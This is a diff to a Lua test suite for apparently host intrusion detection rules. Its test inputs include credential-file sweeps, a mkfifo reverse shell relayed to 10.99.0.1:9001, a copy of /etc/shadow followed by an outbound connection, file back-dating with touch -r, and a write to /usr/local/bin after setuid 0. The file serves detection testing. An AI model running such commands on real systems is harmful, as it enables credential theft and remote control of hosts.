@@ -24,6 +24,16 @@ local function both(script, argv, wrap)
 	return rules_only, with_script, err2
 end
 
+-- The attack: the rules alone stay silent, rules and script give one alert
+-- of RULE, which is returned.
+local function caught(script, rule, argv, wrap)
+	local rules_only, alerts, err = both(script, argv, wrap)
+	assert.are.same({}, rules_only)
+	local a = H.of_rule(alerts, rule)
+	assert.are.equal(1, #a, err)
+	return a[1]
+end
+
 -- A benign look-alike under the script alone: it runs, and RULE is silent.
 local function quiet(script, rule, argv, wrap)
 	local rc, alerts, err = H.run_script(D .. script, argv, wrap)
@@ -45,12 +55,9 @@ describe_root("detection: credential stores swept", function()
 
 	it("alerts on four kinds read in one session; the rules alone say nothing", function()
 		local f = function(n) return q(dir .. "/" .. n) end
-		local rules_only, alerts, err = both(S, sh("cat " .. f(".npmrc") .. " " .. f(".pypirc") .. " >/dev/null; cat "
+		local a = { caught(S, RULE, sh("cat " .. f(".npmrc") .. " " .. f(".pypirc") .. " >/dev/null; cat "
 			.. f(".config/gh/hosts.yml") .. " >/dev/null; " .. ACT .. " read " .. f(".bash_history")
-			.. " read " .. f(".s3cfg")))
-		assert.are.same({}, rules_only)
-		local a = H.of_rule(alerts, RULE)
-		assert.are.equal(1, #a, err)
+			.. " read " .. f(".s3cfg"))) }
 		assert.are.equal("github cli,history,npm,pypi", a[1].output_fields.kinds)
 		assert.are.equal(S, a[1].output_fields["lanner.script"]:match("[^/]+$"))
 	end)
@@ -78,11 +85,8 @@ describe_root("detection: shell driven through a network relay", function()
 
 	it("alerts on cat FIFO | sh -i | relay > FIFO; the rules alone say nothing", function()
 		local f = q(dir .. "/f")
-		local rules_only, alerts, err = both(S, sh("mkfifo " .. f .. "; cat " .. f .. " | sh -i 2>&1 | python3 "
-			.. RELAY .. " relay 10.99.0.1 9001 > " .. f), wrap())
-		assert.are.same({}, rules_only)
-		local a = H.of_rule(alerts, RULE)
-		assert.are.equal(1, #a, err)
+		local a = { caught(S, RULE, sh("mkfifo " .. f .. "; cat " .. f .. " | sh -i 2>&1 | python3 "
+			.. RELAY .. " relay 10.99.0.1 9001 > " .. f), wrap()) }
 		assert.matches("10%.99%.0%.1:9001", a[1].output_fields["relay.connection"])
 		assert.matches("relayed", H.read(dir .. "/got") or "")
 	end)
@@ -106,10 +110,7 @@ describe_root("detection: root gained after a run of refusals", function()
 	end
 
 	it("alerts when a user refused 12 times then runs a setuid-root program; the rules alone say nothing", function()
-		local rules_only, alerts, err = both(S, as_nobody(ACT .. " failopen 12 /root; " .. q(suid) .. " setuid 0"))
-		assert.are.same({}, rules_only)
-		local a = H.of_rule(alerts, RULE)
-		assert.are.equal(1, #a, err)
+		local a = { caught(S, RULE, as_nobody(ACT .. " failopen 12 /root; " .. q(suid) .. " setuid 0")) }
 		assert.are.equal(65534, a[1].output_fields["uid.before"])
 		assert.are.equal(12, a[1].output_fields.refusals)
 	end)
@@ -124,15 +125,100 @@ describe_root("detection: discovery commands in a burst", function()
 	local RULE, S = "Discovery commands in a burst", "recon_burst.lua"
 
 	it("alerts when one shell runs six discovery programs; the rules alone say nothing", function()
-		local rules_only, alerts, err = both(S, sh("id; uname -a; hostname; ps -e; env; df; true"))
-		assert.are.same({}, rules_only)
-		local a = H.of_rule(alerts, RULE)
-		assert.are.equal(1, #a, err)
+		local a = { caught(S, RULE, sh("id; uname -a; hostname; ps -e; env; df; true")) }
 		assert.are.equal("df,env,hostname,id,ps,uname", a[1].output_fields.programs)
 	end)
 
 	it("stays quiet for a script that runs three of them, twice, among other work", function()
 		quiet(S, RULE, sh("id; uname; hostname; ls /; cat /etc/hostname; id; uname -a;"
 			.. " hostname; true"))
+	end)
+end)
+
+describe_root("detection: back-dated program run", function()
+	local RULE, S = "Back-dated program run", "backdated_exec.lua"
+	-- outside temp dirs, where running it would raise a rule of its own
+	local dir = "build/test/backdated"
+	before_each(function() H.sh("rm -rf " .. dir .. " && mkdir -p " .. dir) end)
+	after_each(function() H.sh("rm -rf " .. dir) end)
+
+	it("alerts on write, touch -r /bin/ls, rename, run; the rules alone say nothing", function()
+		local a = { caught(S, RULE, sh("cp /bin/true " .. dir .. "/t && touch -r /bin/ls " .. dir
+			.. "/t && mv " .. dir .. "/t " .. dir .. "/u && " .. dir .. "/u")) }
+		assert.are.equal("cp", a[1].output_fields["writer.name"])
+		assert.are.equal("touch", a[1].output_fields["backdated.by"])
+		assert.matches("/t$", a[1].output_fields["file.path"])
+	end)
+
+	it("stays quiet for cp -p (the writer keeps the old times), and for a touch to now", function()
+		quiet(S, RULE, sh("cp -p /bin/true " .. dir .. "/t && " .. dir .. "/t"))
+		quiet(S, RULE, sh("cp /bin/true " .. dir .. "/t && touch -d @978307200 " .. dir .. "/t && touch "
+			.. dir .. "/t && " .. dir .. "/t"))
+	end)
+end)
+
+describe_root("detection: downloaded file executed, by identity", function()
+	local RULE, S = "Downloaded file executed", "download_exec.lua"
+	local dir = "build/test/download"
+	before_each(function() H.sh("rm -rf " .. dir .. " && mkdir -p " .. dir) end)
+	after_each(function() H.sh("rm -rf " .. dir) end)
+
+	it("follows the file through a rename and a copy, the file opened before the connection", function()
+		local a = { caught(S, RULE, sh(ACT .. " write " .. dir .. "/a /bin/true connect 10.99.0.1 8080"
+			.. " && mv " .. dir .. "/a " .. dir .. "/b && cp " .. dir .. "/b " .. dir .. "/c && chmod 755 "
+			.. dir .. "/c && " .. dir .. "/c"), H.netns(ACT)) }
+		assert.are.equal("cp", a[1].output_fields["writer.name"])
+		assert.are.equal("detect_act", a[1].output_fields["download.writer"])
+		assert.matches("/a$", a[1].output_fields["download.path"])
+	end)
+
+	it("stays quiet for a copy of a file no networked process wrote", function()
+		quiet(S, RULE, sh(ACT .. " connect 10.99.0.1 8080 && cp /bin/true " .. dir .. "/a && mv " .. dir .. "/a "
+			.. dir .. "/b && " .. dir .. "/b"), H.netns(ACT))
+	end)
+end)
+
+describe_root("detection: secret read then outbound connection, across shells and copies", function()
+	local RULE, S = "Secret read then outbound connection", "secret_then_connect.lua"
+	local dir
+	before_each(function() dir = H.tmpdir() end)
+	after_each(function() H.sh("rm -rf " .. q(dir)) end)
+
+	it("joins a copy made in one shell and sent from another", function()
+		local rc, alerts, err = H.run_script(D .. S, sh("sh -c 'cat /etc/shadow > " .. dir .. "/s'; sh -c '"
+			.. ACT .. " read " .. dir .. "/s connect 10.99.0.1 8080'"), H.netns(ACT))
+		assert.are.equal(0, rc, err)
+		local a = H.of_rule(alerts, RULE)
+		assert.are.equal(1, #a, err)
+		assert.are.equal("/etc/shadow", a[1].output_fields["secret.name"])
+		assert.are.equal(dir .. "/s", a[1].output_fields["secret.copy"])
+	end)
+
+	it("stays quiet when the copy is of something else", function()
+		quiet(S, RULE, sh("sh -c 'cat /etc/hostname > " .. dir .. "/s'; sh -c '" .. ACT .. " read " .. dir
+			.. "/s connect 10.99.0.1 8080'"), H.netns(ACT))
+	end)
+end)
+
+describe_root("detection: setuid 0 then a write below a binary directory, by a grandchild", function()
+	local RULE, S = "Write below binary dir after setuid root", "setuid_bindir.lua"
+	local MNTNS = "unshare -m sh -c " .. q('mount -t tmpfs none /usr/local/bin && eval "$LCMD"')
+	local script = "build/test/setuid-then-write.sh"
+	before_each(function()
+		local f = assert(io.open(script, "w"))
+		f:write("#!/bin/sh\nsh -c '", ACT, " write /usr/local/bin/evil'\n")
+		f:close()
+		H.sh("chmod 755 " .. script)
+	end)
+	after_each(function() os.remove(script) end)
+
+	it("alerts on the write two generations below the setuid(0)", function()
+		local rc, alerts, err = H.run_script(D .. S, { ACT, "setuid", "0", "run", script }, MNTNS)
+		assert.are.equal(0, rc, err)
+		assert.are.equal(1, #H.of_rule(alerts, RULE), err)
+	end)
+
+	it("stays quiet for the same write without the setuid", function()
+		quiet(S, RULE, { ACT, "run", script }, MNTNS)
 	end)
 end)
